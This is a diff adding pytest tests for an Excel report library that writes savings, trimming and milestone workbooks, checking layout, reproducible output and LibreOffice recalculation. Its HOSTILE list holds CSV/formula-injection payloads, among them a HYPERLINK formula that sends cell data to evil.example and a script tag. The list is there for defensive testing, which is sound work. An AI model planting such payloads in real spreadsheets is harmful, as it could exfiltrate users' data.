@@ -1,0 +1,272 @@
+"""Tests of the Excel workbooks (alliance_fin.excel*).
+
+Fast tests inspect the written files (XML, openpyxl, pandas); the tests marked ``slow``
+recalculate the workbooks with LibreOffice headless (tests/libreoffice.py) and compare with the
+library. LibreOffice is required for those: they fail, never skip, when it is missing.
+"""
+
+from __future__ import annotations
+
+import re
+import time
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+from openpyxl.formula.tokenizer import Tokenizer
+
+from alliance_fin import milestones, savings, trimming
+from alliance_fin.errors import ReportError
+from alliance_fin.excel import (
+    build_savings_library,
+    write_milestones_workbook,
+    write_savings_workbook,
+    write_trimming_workbook,
+)
+from alliance_fin.load import assumption_values, load_assumptions, load_lineup
+
+import libreoffice as lo  # tests/libreoffice.py (pytest puts tests/ on sys.path)
+
+RUN_INFO = {"run_id": "test-run", "scenario": "base", "created": "2024-05-01T12:00:00",
+            "data_file": "lineup.csv", "data_sha256": "0" * 64, "version": "0.1.0"}
+SAVINGS_PARAMS = {"scenario": "base", "currency": "GBP", "start_year": 2020, "end_year": 2025,
+                  "max_saving_rate": 0.40, "follower_diff_share": 0.20, "discount_rate": 0.08}
+TRIM_PARAMS = {"scenario": "base", "currency": "EUR", "start_year": 2020, "end_year": 2025,
+               "min_volume": 20000, "migration_rate": 0.5, "rule_planned": True,
+               "rule_low_volume": True, "rule_overlap": True, "keep": "", "cut": "R06"}
+MILESTONE_PARAMS = {"scenario": "base", "currency": "EUR", "start_year": 2020, "end_year": 2025,
+                    "launch_delay_years": 1, "as_of_year": 2020, "amber_tolerance": 0.05,
+                    "target_lf_share": 0.5, "target_lf_year": 2025, "target_platform_share": 0.8,
+                    "target_platform_year": 2024, "apply_trimming": False}
+HOSTILE = ["=1+1", '=HYPERLINK("http://evil.example/?d="&A3,"Click me")', "+1", "-1",
+           "@SUM(1)", "\tleading tab", "#N/A", "<script>alert(1)</script>", "==== title", "#REF!"]
+ALLOWED_FUNCTIONS = {"SUM", "SUMIFS", "COUNTIFS", "SUMPRODUCT", "INDEX", "MATCH", "IF", "AND",
+                     "NOT", "MIN", "MAX", "ABS", "ROUND", "ISNUMBER", "LOWER", "ROWS"}
+
+
+# ------------------------------------------------------------------------------ fixtures
+@pytest.fixture(scope="module")
+def inputs() -> tuple[pd.DataFrame, pd.DataFrame, dict[str, float]]:
+    assumptions = load_assumptions()
+    return load_lineup(), assumptions, assumption_values(assumptions)
+
+
+def savings_library(lineup: pd.DataFrame, values: dict[str, float], params: dict) -> dict:
+    av = {**values, **{k: v for k, v in params.items() if k in values}}
+    ms = savings.calc_model_savings(lineup, av)
+    by_year = savings.calc_savings_by_year(ms, av, start_year=params["start_year"],
+                                           end_year=params["end_year"])
+    head = savings.calc_headline(ms, by_year, av, start_year=params["start_year"],
+                                 currency=params["currency"])
+    return build_savings_library(ms, by_year, head)
+
+
+def write_savings(path: Path, lineup: pd.DataFrame, assumptions: pd.DataFrame,
+                  values: dict[str, float], params: dict = SAVINGS_PARAMS) -> tuple[list[str], dict]:
+    library = savings_library(lineup, values, params)
+    warnings = write_savings_workbook(path, lineup=lineup, assumptions=assumptions,
+                                      parameters=params, run_info=RUN_INFO, library=library)
+    return warnings, library
+
+
+def write_trimming(path: Path, lineup, assumptions, values) -> dict:
+    result = trimming.calc_trimming(lineup, values, min_volume=TRIM_PARAMS["min_volume"],
+                                    migration_rate=TRIM_PARAMS["migration_rate"], cut=["R06"],
+                                    cut_year=2020)
+    write_trimming_workbook(path, lineup=lineup, assumptions=assumptions, parameters=TRIM_PARAMS,
+                            run_info=RUN_INFO, library=result)
+    return trimming.calc_trimming_headline(result)
+
+
+def write_milestones(path: Path, lineup, assumptions, values) -> dict:
+    result = milestones.calc_milestones(lineup, values, launch_delay_years=1)
+    write_milestones_workbook(path, lineup=lineup, assumptions=assumptions,
+                              parameters=MILESTONE_PARAMS, run_info=RUN_INFO, library=result)
+    return milestones.calc_milestones_headline(result, values)
+
+
+@pytest.fixture(scope="module")
+def hostile_lineup(inputs) -> pd.DataFrame:
+    lineup = inputs[0].copy()
+    names = HOSTILE + ["bell\x07char", "lone\ud800surrogate", "x" * 40_000]
+    lineup.loc[: len(names) - 1, "model_name"] = names
+    lineup.loc[: len(HOSTILE) - 1, "notes"] = HOSTILE
+    return lineup
+
+
+@pytest.fixture(scope="module")
+def books(tmp_path_factory, inputs) -> dict[str, tuple[Path, dict]]:
+    lineup, assumptions, values = inputs
+    out = tmp_path_factory.mktemp("books")
+    _, lib = write_savings(out / "savings.xlsx", lineup, assumptions, values)
+    return {
+        "savings": (out / "savings.xlsx", lib),
+        "range_trimming": (out / "range_trimming.xlsx",
+                           write_trimming(out / "range_trimming.xlsx", lineup, assumptions, values)),
+        "milestones": (out / "milestones.xlsx",
+                       write_milestones(out / "milestones.xlsx", lineup, assumptions, values)),
+    }
+
+
+def sheet_xml(path: Path, title: str) -> str:
+    wb = openpyxl.load_workbook(path)
+    index = wb.sheetnames.index(title) + 1
+    with zipfile.ZipFile(path) as zf:
+        return zf.read(f"xl/worksheets/sheet{index}.xml").decode("utf-8")
+
+
+# ------------------------------------------------------------------------------ fast tests
+def test_hostile_strings_are_text_not_formulas(tmp_path, inputs, hostile_lineup):
+    lineup, assumptions, values = inputs
+    path = tmp_path / "hostile.xlsx"
+    warnings, _ = write_savings(path, hostile_lineup, assumptions, values)
+    wb = openpyxl.load_workbook(path)
+    ws = wb["Data"]
+    header = [c.value for c in ws[1]]
+    name_col, notes_col = header.index("model_name") + 1, header.index("notes") + 1
+    for i, text in enumerate(HOSTILE):
+        for col in (name_col, notes_col):
+            cell = ws.cell(row=i + 2, column=col)
+            assert cell.value == text and cell.data_type == "s", (text, cell.value, cell.data_type)
+    # no formula anywhere on the Data sheet: every cell there is data
+    assert "<f>" not in sheet_xml(path, "Data") and "<f " not in sheet_xml(path, "Data")
+    # illegal characters replaced visibly and reported; long text cut and reported
+    assert ws.cell(row=len(HOSTILE) + 2, column=name_col).value == "bell\ufffdchar"
+    assert ws.cell(row=len(HOSTILE) + 3, column=name_col).value == "lone\ufffdsurrogate"
+    assert len(ws.cell(row=len(HOSTILE) + 4, column=name_col).value) == 32_767
+    assert any("U+FFFD" in w for w in warnings) and any("cut to 32767" in w for w in warnings)
+
+
+def test_reproducible_bytes_with_source_date_epoch(tmp_path, inputs, monkeypatch):
+    lineup, assumptions, values = inputs
+    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
+    write_savings(tmp_path / "a.xlsx", lineup, assumptions, values)
+    time.sleep(2.1)  # zip times have 2 s resolution: a real clock leak would show
+    write_savings(tmp_path / "b.xlsx", lineup, assumptions, values)
+    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
+    with zipfile.ZipFile(tmp_path / "a.xlsx") as zf:
+        core = zf.read("docProps/core.xml").decode()
+        assert {i.date_time for i in zf.infolist()} == {(2023, 11, 14, 22, 13, 20)}
+    assert core.count("2023-11-14T22:13:20Z") == 2
+    cover = openpyxl.load_workbook(tmp_path / "a.xlsx")["Cover"]
+    assert "2023-11-14T22:13:20Z" in [c.value for row in cover.iter_rows() for c in row]
+
+
+def test_read_excel_data_sheet_types(books, inputs):
+    lineup = inputs[0]
+    for path, _ in books.values():
+        data = pd.read_excel(path, sheet_name="Data", keep_default_na=False, na_values=[""])
+        assert list(data.columns) == list(lineup.columns)
+        assert data["model_id"].tolist() == lineup["model_id"].tolist()
+        assert data["launch_year"].dtype.kind == "i" and data["annual_volume"].dtype.kind in "if"
+        assert data["common_platform"].dtype == bool
+        assert (data["annual_volume"].to_numpy() == lineup["annual_volume"].to_numpy()).all()
+
+
+@pytest.mark.parametrize("report", ["savings", "range_trimming", "milestones"])
+def test_structure_names_formulas_and_print_setup(books, inputs, report):
+    path, _ = books[report]
+    wb = openpyxl.load_workbook(path)
+    assert wb.sheetnames[:3] == ["Cover", "Assumptions", "Data"] and wb.sheetnames[-1] == "Checks"
+    assert wb.calculation.fullCalcOnLoad
+    for key in inputs[1].index:
+        assert key in wb.defined_names, key
+    assert "checks_ok" in wb.defined_names
+    assert wb["Data"].tables and wb["Data"].freeze_panes == "B2"
+    for ws in wb.worksheets:
+        assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
+        assert ws.oddFooter.right.text and ws.sheet_properties.pageSetUpPr.fitToPage
+        for row in ws.iter_rows():
+            for cell in row:
+                if cell.data_type == "f":
+                    names = {t.value.rstrip("(").upper() for t in Tokenizer(cell.value).items
+                             if t.type == "FUNC" and t.subtype == "OPEN"}
+                    assert names <= ALLOWED_FUNCTIONS, (ws.title, cell.coordinate, names)
+                    assert "_xlfn" not in cell.value
+    with zipfile.ZipFile(path) as zf:
+        charts = [n for n in zf.namelist() if n.startswith("xl/charts/chart")]
+    assert charts
+
+
+def test_failed_write_keeps_previous_file(tmp_path, inputs):
+    lineup, assumptions, values = inputs
+    path = tmp_path / "savings.xlsx"
+    write_savings(path, lineup, assumptions, values)
+    before = path.read_bytes()
+    with pytest.raises(ReportError):
+        write_savings(path, lineup, assumptions.drop(index="dev_lead_years"), values)
+    assert path.read_bytes() == before
+    assert [p.name for p in tmp_path.iterdir()] == ["savings.xlsx"]
+
+
+# ------------------------------------------------------------------------------ LibreOffice
+@pytest.mark.slow
+@pytest.mark.parametrize("report", ["savings", "range_trimming", "milestones"])
+def test_libreoffice_recalculation_matches_library(books, tmp_path, report):
+    path, library = books[report]
+    wb = lo.recalculate(path, tmp_path)
+    assert lo.error_cells(wb) == []
+    assert lo.named_value(wb, "checks_ok") is True
+    for key, expected in library.items():
+        if isinstance(expected, (int, float)):
+            got = lo.named_value(wb, key)
+            assert got == pytest.approx(float(expected), rel=1e-9, abs=1e-9), key
+    checks = pd.read_excel(tmp_path / path.name, sheet_name="Checks").dropna(subset=["library_value"])
+    assert checks["ok"].all() and len(checks) >= 4
+
+
+@pytest.mark.slow
+def test_libreoffice_assumption_change_moves_totals(tmp_path, inputs):
+    lineup, assumptions, values = inputs
+    path = tmp_path / "savings.xlsx"
+    _, base = write_savings(path, lineup, assumptions, values)
+    wb = openpyxl.load_workbook(path)
+    (sheet, ref), = list(wb.defined_names["max_saving_rate"].destinations)
+    wb[sheet][ref.replace("$", "")].value = 0.30
+    edited = tmp_path / "edited.xlsx"
+    wb.save(edited)
+    expected = savings_library(lineup, values, {**SAVINGS_PARAMS, "max_saving_rate": 0.30})
+    got = lo.recalculate(edited, tmp_path / "lo")
+    assert lo.error_cells(got) == []
+    for key in ("total_savings_eur_m", "savings_pct", "npv_savings_eur_m", "total_savings_report_ccy_m"):
+        assert lo.named_value(got, key) == pytest.approx(expected[key], rel=1e-9), key
+    assert expected["total_savings_eur_m"] < base["total_savings_eur_m"]
+    # the library values on Checks are the old ones, so the workbook now flags the difference
+    assert lo.named_value(got, "checks_ok") is False
+
+
+@pytest.mark.slow
+def test_libreoffice_hostile_strings_stay_text(tmp_path, inputs, hostile_lineup):
+    lineup, assumptions, values = inputs
+    path = tmp_path / "hostile.xlsx"
+    write_savings(path, hostile_lineup, assumptions, values)
+    wb = lo.recalculate(path, tmp_path / "lo")
+    ws = wb["Data"]
+    header = [c.value for c in ws[1]]
+    col = header.index("model_name") + 1
+    got = [ws.cell(row=i + 2, column=col).value for i in range(len(HOSTILE))]
+    assert got == HOSTILE
+    assert "Click me" not in {c.value for row in ws.iter_rows() for c in row}
+    assert lo.named_value(wb, "checks_ok") is True
+    assert not re.search(r"<f>", sheet_xml(tmp_path / "lo" / path.name, "Data"))
+
+
+@pytest.mark.slow
+def test_read_excel_summary_sheets_after_recalculation(books, tmp_path):
+    path, library = books["savings"]
+    lo.convert(path, tmp_path)
+    recalc = tmp_path / path.name
+    summary = pd.read_excel(recalc, sheet_name="Summary")
+    assert list(summary.columns) == ["key", "value", "unit", "description"]
+    assert summary.set_index("key").loc["total_savings_eur_m", "value"] == pytest.approx(
+        library["total_savings_eur_m"])
+    members = pd.read_excel(recalc, sheet_name="By member")
+    assert members.columns[:6].tolist() == ["member", "models", "development_eur_m",
+                                            "production_eur_m", "other_eur_m", "total_eur_m"]
+    assert members["total_eur_m"].dtype.kind == "f" and members["models"].dtype.kind == "i"
+    years = pd.read_excel(recalc, sheet_name="By year").iloc[:-1]
+    assert years["year"].astype(int).tolist() == list(range(2020, 2026))
+    assert years["total_eur_m"].tolist() == pytest.approx(
+        [library["by_year"][y] for y in range(2020, 2026)])
